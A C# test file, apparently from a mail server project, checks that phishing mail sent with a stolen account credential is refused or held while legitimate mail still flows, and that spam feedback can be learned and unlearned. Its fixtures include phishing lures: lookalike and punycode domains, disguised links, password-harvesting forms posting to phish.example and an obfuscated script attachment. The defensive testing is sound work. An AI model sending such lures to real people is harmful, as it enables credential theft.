using System.Text;
using MailKit.Net.Smtp;
using MailKit.Security;
using MimeKit;
using Standfast.Scenarios.Peers;

namespace Standfast.Scenarios.Attacks;

/// <summary>Somebody with a valid credential sends readers to pages that steal passwords, in each of the usual ways.</summary>
public sealed class PhishingPage
{
    private const string Mark = "X-Attack: yes";

    // From name, subject, content type and body of each; none of the hosts exists.
    private static readonly (string Name, string Subject, string Type, string Body)[] s_variants =
    [
        ("Customer care", "Your account", "text/html", "<p>Please verify your account.</p><a href=\"https://paypa1.com/login\">Open</a>"),
        ("Customer care", "Your account", "text/html", "<p>Please sign in.</p><a href=\"https://xn--pypal-4ve.com/login\">Open</a>"),
        ("Customer care", "Your account", "text/html", "<p>Please sign in.</p><a href=\"https://phish.example/x\">https://www.paypal.com/signin</a>"),
        ("Customer care", "Invoice", "multipart/mixed; boundary=b", Attached("invoice.html", "<form action=\"https://phish.example/\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>")),
        ("Customer care", "Scan", "multipart/mixed; boundary=b", Attached("scan.htm", "<script>document.write(unescape('%3Cform%20action%3D'));eval(atob('YQ=='))</script>")),
        ("Customer care", "Security alert", "text/html", "<p>Unusual activity: confirm your password within 24 hours, or your account will be closed.</p><a href=\"http://198.51.100.23/login\">Confirm</a>"),
        ("PayPal Support", "Your account has been limited", "text/html", "<p>Restore access within 24 hours.</p><a href=\"https://cheap-flowers.example/wp/x\">Restore access</a>"),
        ("Customer care", "Your parcel", "text/html", "<p>Pay the fee to get your parcel.</p><a href=\"https://dhl.com.track-parcel.example/fee\">Pay now</a>"),
        ("Customer care", "Sign in", "text/html", "<p>Sign in below.</p><form action=\"https://phish.example/\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>"),
        ("Customer care", "Document", "text/html", "<p>A document waits for you.</p><a href=\"https://login.microsoftonline.com@phish.example/\">Open document</a>"),
    ];

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task NoneLeaves_AndHonestMailOfTheAccountFlows()
    {
        using var sink = new ScriptedSink(command => Task.FromResult<string?>(ScriptedSink.Willing(command)));
        await using var server = new ServerProcess($"delivery.relay=127.0.0.1:{sink.Port}");
        await server.StartAsync();
        var (stolen, other) = (await SendingClient.AddCredentialAsync(server), await SendingClient.AddCredentialAsync(server));
        var replies = new List<string>();
        using (var attacker = await ConnectAsync(server, stolen))
        using (var honest = await SendingClient.ConnectAsync(server, "127.0.0.1", other, Stop))
        {
            for (var number = 0; number < 5 * s_variants.Length; number++)
            {
                var (name, subject, type, body) = s_variants[number % s_variants.Length];
                replies.Add(await SendAsync(attacker, $"victim{number}@example.net", $"From: \"{name}\" <shop@mail.example.org>\r\nTo: victim{number}@example.net\r\nSubject: {subject}\r\n{Mark}\r\nMIME-Version: 1.0\r\nContent-Type: {type}\r\n\r\n{body}\r\n"));
                if (number < s_variants.Length) Assert.DoesNotContain("SF-", await honest.SendAsync($"buyer{number}@example.com", AttackMail.Receipt(number), Stop), StringComparison.Ordinal);
            }

            var reset = await honest.SendAsync("buyer@example.com", ("Reset your password", "Hello,\r\n\r\nyou asked to reset your password. Confirm your new password within 24 hours: https://www.example.org/reset/1\r\n\r\nYour shop"), Stop);
            Assert.DoesNotContain("SF-", reset, StringComparison.Ordinal);
        }

        await AttackMail.WaitAsync(() => sink.Accepted.Count(content => !content.Contains(Mark, StringComparison.Ordinal)) == s_variants.Length + 1, Stop);
        TestContext.Current.TestOutputHelper?.WriteLine($"{sink.Accepted.Count(content => content.Contains(Mark, StringComparison.Ordinal))} of {replies.Count} messages left; {replies.Count(reply => reply.StartsWith("550", StringComparison.Ordinal))} refused");
        Assert.DoesNotContain(sink.Accepted, content => content.Contains(Mark, StringComparison.Ordinal));
        var refused = replies.Where(reply => reply.StartsWith("550", StringComparison.Ordinal)).ToList();
        Assert.True(refused.Count >= 5 * 4, string.Join('\n', replies.Take(10)));
        Assert.All(refused, reply => Assert.Contains("SF-", reply, StringComparison.Ordinal));
        // What was not refused is held, each message with its reason.
        var held = await server.RunAsync("queue", "ls", "--status", "held");
        Assert.Equal(replies.Count - refused.Count, held.GetArrayLength());
    }

    [Fact]
    public async Task Feedback_IsLearned_Explained_AndTakenBack_AcrossAKill()
    {
        await using var server = new ServerProcess();
        await server.StartAsync();
        var file = Path.Combine(server.Data, "message.eml");
        await File.WriteAllTextAsync(file, "From: shop@mail.example.org\r\nSubject: Your order of garden tools\r\n\r\n" + AttackMail.Receipt(1).Text + "\r\n", Stop);
        var before = await server.RunAsync("spam", "check", file);
        Assert.Equal("pass", before.GetProperty("action").GetString());
        Assert.True(before.GetProperty("reasons").GetArrayLength() > 0);
        var learned = await server.RunAsync("spam", "learn", file, "--as", "spam");
        Assert.True(learned.GetProperty("after").GetDouble() > learned.GetProperty("before").GetDouble());
        await server.KillAsync();
        await server.StartAsync();
        Assert.Equal(learned.GetProperty("after").GetDouble(), await ProbabilityAsync(server, file));
        await server.RunAsync("spam", "unlearn", file, "--as", "spam");
        Assert.Equal(before.GetProperty("probability").GetDouble(), (await server.RunAsync("spam", "check", file)).GetProperty("probability").GetDouble());
        var (exit, _, error) = await ServerProcess.RunToEndAsync(["spam", "unlearn", file, "--as", "spam", "--data", server.Data]);
        Assert.Equal(66, exit);
        Assert.Contains("not learned", error, StringComparison.Ordinal);
        Assert.Equal(66, (await ServerProcess.RunToEndAsync(["spam", "check", file + ".none", "--data", server.Data])).Exit);

        await File.WriteAllTextAsync(file, "From: shop@mail.example.org\r\nSubject: Hello\r\nContent-Type: text/html\r\n\r\n<a href='https://paypal.com@phish.example/'>Open</a>\r\n", Stop);
        var (refusing, output, _) = await ServerProcess.RunToEndAsync(["spam", "check", file, "--data", server.Data]);
        Assert.Equal(65, refusing);
        Assert.Contains("SF-5107", output, StringComparison.Ordinal);
    }

    private static async Task<double> ProbabilityAsync(ServerProcess server, string file)
    {
        var (_, output, _) = await server.AskAsync("spam", "check", file);
        return System.Text.Json.JsonDocument.Parse(output).RootElement.GetProperty("probability").GetDouble();
    }

    private static string Attached(string name, string content) =>
        $"--b\r\nContent-Type: text/plain\r\n\r\nSee the document.\r\n--b\r\nContent-Type: text/html; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(Encoding.UTF8.GetBytes(content))}\r\n--b--";

    private static async Task<SmtpClient> ConnectAsync(ServerProcess server, (string User, string Secret) credential)
    {
        var client = new SmtpClient { CheckCertificateRevocation = false, ServerCertificateValidationCallback = (_, _, _, _) => true };
        await client.ConnectAsync("127.0.0.1", server.Submission, SecureSocketOptions.StartTls, Stop);
        await client.AuthenticateAsync(credential.User, credential.Secret, Stop);
        return client;
    }

    private static async Task<string> SendAsync(SmtpClient client, string recipient, string content)
    {
        using var stream = new MemoryStream(Encoding.UTF8.GetBytes(content));
        using var message = await MimeMessage.LoadAsync(stream, Stop);
        try
        {
            return await client.SendAsync(message, MailboxAddress.Parse("shop@mail.example.org"), [MailboxAddress.Parse(recipient)], Stop);
        }
        catch (SmtpCommandException refusal)
        {
            return $"{(int)refusal.StatusCode} {refusal.Message}";
        }
    }
}
